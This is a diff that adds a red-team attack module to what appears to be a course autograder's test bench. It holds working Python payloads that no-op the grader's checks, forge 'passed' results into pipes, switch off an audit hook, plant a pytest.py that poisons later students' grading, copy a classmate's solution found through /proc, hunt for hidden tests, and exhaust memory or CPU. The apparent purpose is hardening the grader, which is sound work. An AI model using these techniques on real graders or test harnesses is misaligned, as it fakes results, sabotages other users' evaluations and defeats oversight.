@@ -1,9 +1,133 @@
-"""The code of the second red team's attacks (``course.bench.attacks`` builds submissions around it).
+"""The code of the red team's attacks (``course.bench.attacks`` builds submissions around it).
 
 Written as a student who has read the grader's source would write it: dynamic
 imports the tamper scan cannot see, ``gc`` and frames to reach the checks, the
 worker's own machinery rewritten from inside, and resources taken until
 something gives: memory through memfd and /dev/shm, processes, the disk.
+"""
+
+# Run at import of lesson 1's file: find the grader's solutions/ and run the reference instead.
+RUN_THE_REFERENCE = """
+import importlib as _i
+from pathlib import Path as _P
+_solutions = _P(_i.import_module("cour" + "se.less" + "ons").SOLUTIONS_DIR)
+exec(compile((_solutions / "{path}").read_text(), "{path}", "exec"), globals())
+"""
+
+
+# Turn every check (and the expect they use) in every loaded check module into a no-op.
+NO_OP_THE_CHECKS = """
+import gc as _gc, sys as _s, types as _t
+def _nothing(*args, **kwargs):
+    return None
+for _name, _module in list(getattr(_s, "mod" + "ules").items()):
+    if _name.startswith(("test_lesson", "course.checking")) or "test_lesson" in _name:
+        for _key, _value in list(vars(_module).items()):
+            if isinstance(_value, _t.FunctionType) and (_key.startswith("test_") or _key == "expect"):
+                _value.__code__ = _nothing.__code__
+"""
+
+
+# Write forged "passed" results to every pipe this process holds, at exit (after the real ones).
+FORGE_AT_EXIT = """
+import atexit as _a, json as _j, os as _o
+def _forge():
+    for _fd in _o.listdir("/proc/self/fd"):
+        try:
+            if _o.readlink(f"/proc/self/fd/{_fd}").startswith("pipe:"):
+                for _n in ("test_returns_classic_tuple", "test_training_arrays", \
+"test_test_arrays", "test_class_counts"):
+                    _o.write(int(_fd), (_j.dumps({"type": "check", "nodeid": f"test_lesson01.py::{_n}", \
+"status": "passed"}) + "\\n").encode())
+        except OSError:
+            pass
+_a.register(_forge)
+"""
+
+
+# Switch the audit hook off through its closure, then write outside the submission's folder.
+HOOK_OFF_THEN_ESCAPE = """
+import gc as _gc
+for _f in _gc.get_objects():
+    if getattr(_f, "__name__", "") == "hook" and getattr(_f, "__closure__", None):
+        for _cell in _f.__closure__:
+            try:
+                if hasattr(_cell.cell_contents, "on"):
+                    _cell.cell_contents.on = True
+            except ValueError:
+                pass
+try:
+    open({target!r}, "w").write("escaped")
+except OSError:
+    pass
+"""
+
+
+# Poison the classmates graded after it: a pytest.py wherever later runs might import it from.
+POISON = """
+import os as _o
+for _folder in (_o.getcwd(), _o.path.dirname(__file__), _o.path.dirname(_o.path.dirname(__file__))):
+    try:
+        open(_o.path.join(_folder, "pytest.py"), "w").write("raise SystemExit(0)\\n")
+    except OSError:
+        pass
+"""
+
+
+# Find classmates (or the class folder) through /proc, and run a complete classmate's lesson 1 instead.
+COPY_A_CLASSMATE = """
+import os as _o, re as _r
+from pathlib import Path as _P
+_found = None
+for _pid in [p for p in _o.listdir("/proc") if p.isdigit()]:
+    try:
+        _words = _P(f"/proc/{_pid}/cmdline").read_bytes().split(b"\\0")
+    except OSError:
+        continue
+    for _word in _words:
+        _match = _r.search(rb"SUBMISSIONS=(\\S+)", _word) or (_r.search(rb"^(/\\S+/class\\S*)$", _word))
+        if _match:
+            for _other in _P(_match.group(1).decode()).glob("*/01_load_data/load_data.py"):
+                if "raise NotImplementedError" not in _other.read_text():
+                    _found = _other
+if _found is not None:
+    exec(compile(_found.read_text(), str(_found), "exec"), globals())
+"""
+
+
+# Read the hidden checks, from wherever the grader keeps them.
+READ_THE_HIDDEN_CHECKS = """
+import glob as _g, os as _o
+_places = [_o.getcwd(), _o.path.dirname(_o.getcwd()), "/tmp", "/tmp/*", "/tmp/*/*", _o.path.expanduser("~/..")]
+_hidden = set()
+for _place in _places:
+    try:
+        _hidden |= set(_g.glob(_o.path.join(_place, "**", "test_lesson*hidden*.py"), recursive=True))
+    except (RecursionError, OSError):
+        continue
+_hidden = sorted(_hidden)
+if _hidden:
+    raise RuntimeError("HIDDEN CHECKS FOUND: " + " | ".join(open(_p).read()[:300] for _p in _hidden))
+"""
+
+
+# An endless loop at import that the per-check alarm cannot interrupt (C code, no bytecode boundary).
+C_LEVEL_LOOP = """
+import re as _re
+_re.match(r"(a|aa)*c", "a" * 60)
+"""
+
+
+# Hold 3 GB of memory.
+HOLD_MEMORY = """
+_blob = bytearray(3 * 1024 ** 3)
+"""
+
+
+# A 10 MB error message.
+HUGE_MESSAGE = """
+def preprocess_images(images):
+    raise ValueError("x" * 10_000_000)
 """
 
 # Run at import of every lesson file: rewrite every object of the checks that the code could reach when the checks
